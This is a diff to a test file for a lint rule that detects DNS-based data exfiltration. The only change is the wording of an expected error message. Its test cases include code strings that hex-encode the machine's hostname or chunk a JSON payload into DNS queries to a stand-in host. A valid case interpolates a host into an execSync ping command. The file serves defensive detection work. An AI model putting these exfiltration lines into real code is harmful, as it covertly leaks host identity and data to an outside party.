@@ -16,7 +16,7 @@ ruleTester(rule, {
     'require("child_process").execSync(`ping -c 1 ${host}`);',
   ],
   invalid: [
-    { code: D + 'dns.lookup(Buffer.from(os.hostname()).toString("hex") + ".x.example.com", () => {});', errors: [{ messageId: 'lookup', line: 2, column: 1, message: 'machine identity' }] },
+    { code: D + 'dns.lookup(Buffer.from(os.hostname()).toString("hex") + ".x.example.com", () => {});', errors: [{ messageId: 'lookup', line: 2, column: 1, message: 'the host name' }] },
     {
       code: D + 'const data = Buffer.from(JSON.stringify(payload)).toString("hex");\nfor (const chunk of data.match(/.{1,60}/g)) dns.resolve4(`${chunk}.d.x.example.com`, () => {});',
       errors: [{ messageId: 'lookup', line: 3, column: 45, message: 'encoded data' }],
